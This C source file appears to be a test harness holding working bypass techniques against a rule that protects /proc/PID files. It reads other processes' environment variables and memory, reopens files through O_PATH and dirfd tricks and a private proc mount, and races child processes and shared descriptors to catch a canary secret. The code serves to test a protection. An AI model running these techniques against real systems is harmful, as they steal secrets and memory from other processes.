/* Files under /proc/PID, and the ways round a rule about their paths (vectors 1-17). */
#define _GNU_SOURCE
#include "attack.h"

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

enum { SEARCH_SECONDS = 3000 };

static int opened(const struct target *t, const char *name)
{
	return open(proc_path(t->pid, name), O_RDONLY | O_CLOEXEC);
}

/* The whole of a small file; its first bytes are the evidence unless it holds the canary's variable. */
static void whole(int file)
{
	static char content[65536];
	size_t length = 0;
	ssize_t got;
	if (file < 0)
		failed("open");
	while ((got = read(file, content + length, sizeof content - 1 - length)) > 0)
		length += (size_t)got;
	if (got < 0 && !length)
		failed("read");
	char *canary = memmem(content, length, "CANARY=", 7);
	if (canary)
		succeeded_with(canary + 7);
	succeeded(content, length < 60 ? length : 60);
}

static void environ_(const struct target *t) { whole(opened(t, "environ")); }
static void mem(const struct target *t) { read_out(opened(t, "mem"), t, (off_t)t->address); }
static void maps(const struct target *t) { whole(opened(t, "maps")); }
static void smaps(const struct target *t) { whole(opened(t, "smaps")); }
static void smaps_rollup(const struct target *t) { whole(opened(t, "smaps_rollup")); }
static void numa_maps(const struct target *t) { whole(opened(t, "numa_maps")); }
static void auxv(const struct target *t) { whole(opened(t, "auxv")); }
static void stack(const struct target *t) { whole(opened(t, "stack")); }
static void syscall_(const struct target *t) { whole(opened(t, "syscall")); }
static void io(const struct target *t) { whole(opened(t, "io")); }
static void coredump_filter(const struct target *t) { whole(opened(t, "coredump_filter")); }

static void mem_write(const struct target *t)
{
	char byte;
	int file = open(proc_path(t->pid, "mem"), O_RDWR | O_CLOEXEC);
	if (file < 0)
		failed("open");
	if (pread(file, &byte, 1, (off_t)t->address) != 1 || pwrite(file, &byte, 1, (off_t)t->address) != 1)
		failed("write");
	succeeded_with("written");
}

static void pagemap(const struct target *t)
{
	unsigned long entry = 0;
	int file = opened(t, "pagemap");
	if (file < 0)
		failed("open");
	if (pread(file, &entry, 8, (off_t)(t->address / 4096 * 8)) != 8)
		failed("read");
	succeeded_with(entry >> 63 ? "present" : "absent");
}

static void task_environ(const struct target *t)
{
	char name[64];
	snprintf(name, sizeof name, "task/%d/environ", t->tid);
	whole(opened(t, name));
}

static void task_mem(const struct target *t)
{
	char name[64];
	snprintf(name, sizeof name, "task/%d/mem", t->tid);
	read_out(opened(t, name), t, (off_t)t->address);
}

/* A thread has an entry of its own that no listing shows. */
static void thread_environ(const struct target *t)
{
	whole(open(proc_path(t->tid, "environ"), O_RDONLY | O_CLOEXEC));
}

static void by_dirfd(const struct target *t)
{
	int folder = open(proc_path(t->pid, ""), O_PATH | O_DIRECTORY | O_CLOEXEC);
	whole(openat(folder, "environ", O_RDONLY | O_CLOEXEC));
}

static void by_o_path(const struct target *t)
{
	char again[64];
	int name = open(proc_path(t->pid, "environ"), O_PATH | O_CLOEXEC);
	if (name < 0)
		failed("open");
	snprintf(again, sizeof again, "/proc/self/fd/%d", name);
	whole(open(again, O_RDONLY | O_CLOEXEC));
}

static void other_mount(const struct target *t)
{
	char path[128];
	if (unshare(CLONE_NEWNS) || mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL))
		failed("unshare");
	mkdir("/run/other-proc", 0755);
	if (mount("proc", "/run/other-proc", "proc", 0, NULL))
		failed("mount");
	snprintf(path, sizeof path, "/run/other-proc/%d/environ", t->pid);
	whole(open(path, O_RDONLY | O_CLOEXEC));
}

/* Lists a folder of links; the evidence is its first entries. */
static void listed(const struct target *t, const char *name)
{
	char evidence[64] = "entries";
	int folder = open(proc_path(t->pid, name), O_RDONLY | O_DIRECTORY | O_CLOEXEC), count = 0;
	if (folder < 0)
		failed("open");
	DIR *entries = fdopendir(folder);
	errno = 0;
	for (struct dirent *entry; entries && (entry = readdir(entries));)
		if (entry->d_name[0] != '.')
			count++;
	if (errno)
		failed("readdir");
	if (!count) {
		errno = ENOENT;
		failed("nothing listed");
	}
	snprintf(evidence, sizeof evidence, "%d entries", count);
	succeeded_with(evidence);
}

static void fd_list(const struct target *t) { listed(t, "fd"); }
static void fdinfo_list(const struct target *t) { listed(t, "fdinfo"); }
static void map_files_list(const struct target *t) { listed(t, "map_files"); }

static void fd_open(const struct target *t)
{
	char name[32];
	snprintf(name, sizeof name, "fd/%d", t->descriptor);
	read_out(opened(t, name), t, 0);
}

static void fdinfo_open(const struct target *t)
{
	char name[32];
	snprintf(name, sizeof name, "fdinfo/%d", t->descriptor);
	whole(opened(t, name));
}

/* Opens a mapped file through the address range that the caller passes. */
static void map_files_open(const struct target *t)
{
	char name[96];
	snprintf(name, sizeof name, "map_files/%s", t->extra);
	whole(opened(t, name));
}

static void link_read(const struct target *t, const char *name)
{
	char target[256];
	ssize_t length = readlink(proc_path(t->pid, name), target, sizeof target);
	if (length < 0)
		failed("readlink");
	succeeded(target, (size_t)length);
}

static void exe_link(const struct target *t) { link_read(t, "exe"); }
static void cwd_link(const struct target *t) { link_read(t, "cwd"); }
static void root_link(const struct target *t) { link_read(t, "root"); }
static void ns_link(const struct target *t) { link_read(t, "ns/mnt"); }

static void exe_open(const struct target *t)
{
	char magic[5] = "";
	int file = opened(t, "exe");
	if (file < 0 || read(file, magic, 4) != 4)
		failed("open");
	succeeded_with(magic + 1);
}

static void root_walk(const struct target *t) { whole(opened(t, "root/etc/hostname")); }

static void ns_open(const struct target *t)
{
	if (opened(t, "ns/mnt") < 0)
		failed("open");
	succeeded_with("opened");
}

/* Until a file is there. `extra`: that file, and the secret to look for. */
struct search {
	char end[128], secret[128];
	long tries;
};

static struct search search(const struct target *t)
{
	struct search search = {0};
	errno = EINVAL;
	if (sscanf(t->extra, "%127s %127s", search.end, search.secret) != 2)
		failed("extra");
	alarm(SEARCH_SECONDS);
	nice(5); /* where there is one processor, an agent that starts has most of it */
	return search;
}

static int goes_on(const struct search *search)
{
	return search->tries % 64 || access(search->end, F_OK);
}

static void found_nothing(const struct search *search) __attribute__((noreturn));
static void found_nothing(const struct search *search)
{
	char text[64];
	errno = EPERM;
	snprintf(text, sizeof text, "%ld tries", search->tries);
	failed(text);
}

/* Whether this process's environment can be read and holds the text. */
static int leaks(pid_t pid, const char *text)
{
	static char content[65536];
	int file = open(proc_path(pid, "environ"), O_RDONLY | O_CLOEXEC);
	if (file < 0)
		return 0;
	ssize_t got = read(file, content, sizeof content);
	close(file);
	return got > 0 && memmem(content, (size_t)got, text, strlen(text));
}

/* Again and again, in search of a gap. */
static void environ_loop(const struct target *t)
{
	struct search s = search(t);
	for (; goes_on(&s); s.tries++)
		if (leaks(t->pid, s.secret))
			succeeded_with(s.secret);
	found_nothing(&s);
}

/* The same over all processes there are, in search of a child that is not protected yet. */
static void scan_loop(const struct target *t)
{
	struct search s = search(t);
	(void)t;
	do {
		DIR *processes = opendir("/proc");
		for (struct dirent *entry; processes && (entry = readdir(processes));) {
			pid_t pid = atoi(entry->d_name);
			if (pid <= 0 || pid == getpid())
				continue;
			s.tries++;
			if (leaks(pid, s.secret))
				succeeded_with(s.secret);
		}
		closedir(processes);
	} while (access(s.end, F_OK));
	found_nothing(&s);
}

/* Guesses the numbers to come instead of listing: a child's entry is there before a listing shows it. */
static void guess_loop(const struct target *t)
{
	struct search s = search(t);
	pid_t from = t->pid;
	do
		for (pid_t pid = from; pid < from + 64; pid++, s.tries++) {
			if (leaks(pid, s.secret))
				succeeded_with(s.secret);
			if (!access(proc_path(pid, "stat"), F_OK))
				from = pid;
		}
	while (access(s.end, F_OK));
	found_nothing(&s);
}

/* So many openings, at so many a second, or as fast as it goes. `extra`: both numbers, 0 for no rate. */
static void flood(const struct target *t)
{
	long wanted, rate, made = 0, opened_ = 0;
	char text[64];
	struct timespec start, time;
	errno = EINVAL;
	if (sscanf(t->extra, "%ld %ld", &wanted, &rate) != 2)
		failed("extra");
	alarm(SEARCH_SECONDS);
	clock_gettime(CLOCK_MONOTONIC, &start);
	for (; made < wanted; made++) {
		int file = opened(t, "environ");
		if (file >= 0) {
			opened_++;
			close(file);
		}
		for (double passed = 0; rate && passed * (double)rate < (double)made;) {
			clock_gettime(CLOCK_MONOTONIC, &time);
			passed = (double)(time.tv_sec - start.tv_sec) + 1e-9 * (double)(time.tv_nsec - start.tv_nsec);
		}
	}
	snprintf(text, sizeof text, "%ld", opened_);
	succeeded_with(text);
}

/* A sibling that shares memory with the reader, for where the reader does not outlive its reading. */
static void shared_readv(const struct target *t)
{
	char *shared = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	if (shared == MAP_FAILED)
		failed("mmap");
	pid_t reader = fork();
	if (!reader) {
		struct iovec here = {shared, t->length}, there = {(void *)t->address, t->length};
		process_vm_readv(t->pid, &here, 1, &there, 1, 0);
		_exit(0);
	}
	waitpid(reader, NULL, 0);
	errno = ENODATA;
	if (!*shared)
		failed("nothing came over");
	succeeded(shared, t->length);
}

/* A sibling that shares its descriptors with the opener: it has until the opener dies. */
static int share_files(void *told)
{
	const struct target *t = ((void **)told)[0];
	*(volatile int *)((void **)told)[1] = opened(t, "environ");
	return 0;
}

static void shared_files(const struct target *t)
{
	static char stack[65536];
	volatile int file = -2;
	void *told[] = {(void *)t, (void *)&file};
	pid_t opener = clone(share_files, stack + sizeof stack, CLONE_FILES | CLONE_VM | SIGCHLD, told);
	waitpid(opener, NULL, 0);
	errno = ENODATA;
	if (file == -1)
		failed("the opener was refused");
	/* the opener may have died before it could tell the number: it is the first free one */
	for (int number = 3; number < 64; number++) {
		char content[8192];
		ssize_t got = pread(number, content, sizeof content, 0);
		char *canary = got > 0 ? memmem(content, (size_t)got, "CANARY=", 7) : NULL;
		if (canary)
			succeeded_with(canary + 7);
	}
	failed("no descriptor has it");
}

/* A second thread of the opener tries the descriptor all the while, and writes into memory that outlives both. */
struct race {
	volatile int ready;
	int number;
	volatile long first, last; /* ns, when it read something */
};

static long nanoseconds(void)
{
	struct timespec time;
	clock_gettime(CLOCK_MONOTONIC, &time);
	return time.tv_sec * 1000000000L + time.tv_nsec;
}

static void *snatch(void *told)
{
	struct race *race = told;
	char byte;
	for (;;) {
		if (pread(race->number, &byte, 1, 0) == 1) {
			race->last = nanoseconds();
			if (!race->first)
				race->first = race->last;
		}
		race->ready = 1;
	}
	return NULL;
}

/* The evidence: for how many ns the other thread had the file. */
static void window(const struct target *t)
{
	char text[32];
	struct race *race = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	if (race == MAP_FAILED)
		failed("mmap");
	pid_t both = fork();
	if (!both) {
		pthread_t thread;
		prctl(PR_SET_PDEATHSIG, SIGKILL);
		race->number = dup(0);
		close(race->number); /* the next to be given */
		if (pthread_create(&thread, NULL, snatch, race))
			_exit(1);
		while (!race->ready)
			;
		opened(t, "environ");
		_exit(0);
	}
	waitpid(both, NULL, 0);
	errno = ENODATA;
	if (!race->first)
		failed("nothing was read");
	snprintf(text, sizeof text, "%ld", race->last - race->first);
	succeeded_with(text);
}

const struct attack proc_attacks[] = {
	{"environ", environ_}, {"mem", mem}, {"mem-write", mem_write}, {"maps", maps}, {"smaps", smaps},
	{"smaps_rollup", smaps_rollup}, {"numa_maps", numa_maps}, {"pagemap", pagemap}, {"auxv", auxv}, {"stack", stack},
	{"syscall", syscall_}, {"io", io}, {"coredump_filter", coredump_filter}, {"task-environ", task_environ},
	{"task-mem", task_mem}, {"thread-environ", thread_environ}, {"dirfd", by_dirfd}, {"o_path", by_o_path},
	{"other-mount", other_mount}, {"fd-list", fd_list}, {"fd-open", fd_open}, {"fdinfo-list", fdinfo_list},
	{"fdinfo-open", fdinfo_open}, {"map_files-list", map_files_list}, {"map_files-open", map_files_open},
	{"exe-link", exe_link}, {"exe-open", exe_open}, {"cwd-link", cwd_link}, {"root-link", root_link},
	{"root-walk", root_walk}, {"ns-link", ns_link}, {"ns-open", ns_open}, {"environ-loop", environ_loop},
	{"scan-loop", scan_loop}, {"guess-loop", guess_loop}, {"flood", flood}, {"shared-readv", shared_readv},
	{"shared-files", shared_files}, {"window", window}, {0},
};
